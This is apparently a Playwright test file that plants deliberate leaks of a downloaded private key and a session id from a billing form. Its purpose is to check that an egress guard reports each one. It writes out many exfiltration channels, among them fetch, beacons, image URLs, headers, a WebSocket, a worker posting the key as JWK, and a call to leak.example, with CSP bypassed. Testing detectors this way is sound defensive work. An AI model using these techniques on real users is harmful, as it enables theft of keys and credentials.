// Planted leaks: in a real run, on the page of the key, each form of the key is sent out on purpose. The check that guards every
// other test must report it. The policy of the site would stop most of these, so it is off here: the check stands alone.
import { createServer } from 'node:http';
import { createHash } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import type { Form } from '../pages/form.ts';
import { anOrder } from '../support/orders.ts';
import { expect, unguarded as test } from '../support/test.ts';

test.use({ bypassCSP: true });

/** What is planted runs in the page with the key's PEM text and an address to send to. */
interface Leak {
  name: string;
  reported: RegExp;
  plant: (page: Page, pem: string, address: string) => Promise<unknown>;
}

/** Gives the base64 of a PEM text. */
const bodyOf = (pem: string) => pem.replace(/-----[^-]+-----|\s/g, '');
const toHex = (pem: string) => Buffer.from(bodyOf(pem), 'base64').toString('hex');
const toBase64Url = (pem: string) => Buffer.from(bodyOf(pem), 'base64').toString('base64url');

const LEAKS: Leak[] = [
  {
    name: 'as PEM by fetch',
    reported: /a PEM private key in the body of POST/,
    plant: (page, pem) => page.evaluate((body) => fetch('/billmgr', { method: 'POST', body }), pem),
  },
  {
    name: 'as PEM in a form field by XMLHttpRequest',
    reported: /d in base64 in the body of POST/,
    plant: (page, pem) =>
      page.evaluate((text) => {
        const request = new XMLHttpRequest();
        request.open('POST', '/billmgr');
        request.send(new URLSearchParams({ func: 'whoami', note: text.replace(/-----[^-]+-----/g, '') }));
        return new Promise((resolve) => (request.onloadend = resolve));
      }, pem),
  },
  {
    name: 'as base64 by a beacon with a Blob',
    reported: /d in base64 in the body of POST/,
    plant: (page, pem) =>
      page.evaluate((text) => navigator.sendBeacon('/billmgr', new Blob([`x${text}`])), bodyOf(pem)),
  },
  {
    name: 'as PEM by a beacon as the page is left',
    reported: /a PEM private key in the body of POST/,
    plant: async (page, pem) => {
      await page.evaluate((text) => addEventListener('pagehide', () => navigator.sendBeacon('/billmgr', text)), pem);
      await page.goto('about:blank');
    },
  },
  {
    name: 'as base64url in the address of an image',
    reported: /d in base64(url)? in the url of GET/,
    plant: (page, pem) => page.evaluate((text) => void (new Image().src = `/pixel.png?${text}`), toBase64Url(pem)),
  },
  {
    name: 'in a header',
    reported: /d in base64 in the headers of GET/,
    plant: (page, pem) => page.evaluate((text) => fetch('/config.json', { headers: { 'X-Note': text } }), bodyOf(pem)),
  },
  {
    name: 'as hex by a WebSocket',
    reported: /d in hex in the body of WebSocket/,
    plant: (page, pem, address) => page.evaluate(sendByWebSocket, { address, text: toHex(pem).toUpperCase() }),
  },
  {
    name: 'as JWK by the fetch of a worker',
    reported: /d in base64(url)? in the body of POST/,
    plant: (page, pem) => page.evaluate(sendJwkFromWorker, bodyOf(pem)),
  },
  {
    name: 'in the address of a page that is navigated to',
    reported: /d in base64 in the url of GET/,
    plant: (page, pem) => page.goto(`/?${encodeURIComponent(bodyOf(pem))}`),
  },
  {
    name: 'not at all, but to another origin',
    reported: /a request to another origin: http:\/\/leak\.example/,
    plant: (page) => page.evaluate(() => fetch('http://leak.example/', { mode: 'no-cors' }).catch(() => null)),
  },
];

for (const { name, reported, plant } of LEAKS) {
  test(`a key that leaves ${name} is reported`, async ({ form, page, egress, wire }) => {
    const pem = await keyOf(form);
    expect(await egress.findings(), 'before the leak').toEqual([]);
    const server = await webSocketServer();
    const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    wire.allow(`http://${host}`);
    try {
      await plant(page, pem, `ws://${host}/`);
      await expect.poll(() => egress.findings()).toContainEqual(expect.stringMatching(reported));
    } finally {
      server.closeAllConnections();
      server.close();
    }
  });
}

test('a key that was never downloaded is looked for too', async ({ form, page, egress }) => {
  await form.walkTo('key', anOrder());
  await form.key.privateKey.getByRole('button', { name: 'Show' }).click();
  const pem = (await form.key.shownKey.textContent()) ?? '';
  await page.evaluate((text) => fetch('/config.json', { headers: { 'X-Note': text } }), bodyOf(pem));
  await expect.poll(() => egress.findings()).toContainEqual(expect.stringMatching(/d in base64 in the headers/));
});

test('a password or a session id outside the body of a billing request is reported', async ({
  form,
  page,
  egress,
  wire,
}) => {
  await form.walkTo('contacts', anOrder());
  expect(await egress.findings(), 'before the leak').toEqual([]);
  const answer = wire.received.map(({ body }) => /"\$id":"([^"]+)","\$level"/.exec(body.toString())?.[1]).find(Boolean);
  await page.evaluate((session) => fetch(`/config.json?auth=${session}`), answer);
  await expect
    .poll(() => egress.findings())
    .toContainEqual(expect.stringMatching(/a password or session id in the url/));
});

async function keyOf(form: Form): Promise<string> {
  await form.walkTo('key', anOrder());
  return (await form.key.download()).text;
}

/** In the page. */
function sendByWebSocket({ address, text }: { address: string; text: string }): Promise<void> {
  const socket = new WebSocket(address);
  return new Promise((resolve, reject) => {
    socket.onerror = () => reject(new Error('no WebSocket'));
    socket.onopen = () => {
      socket.send(text);
      resolve();
    };
  });
}

/** In the page. */
async function sendJwkFromWorker(base64: string): Promise<void> {
  const bytes = Uint8Array.from(atob(base64), (character) => character.charCodeAt(0));
  const key = await crypto.subtle.importKey('pkcs8', bytes, { name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign']);
  const jwk = JSON.stringify(await crypto.subtle.exportKey('jwk', key));
  const address = new URL('/billmgr', location.href).href;
  const code = `onmessage = async ({ data }) => { await fetch(data[0], { method: 'POST', body: data[1] }); postMessage(0); }`;
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  const done = new Promise((resolve) => (worker.onmessage = resolve));
  worker.postMessage([address, jwk]);
  await done;
}

/** Shakes hands (RFC 6455, 4.2.2) and listens. */
async function webSocketServer() {
  const server = createServer();
  server.on('upgrade', (request, socket) => {
    const key = `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
    const accept = createHash('sha1').update(key).digest('base64');
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
    socket.resume();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
}
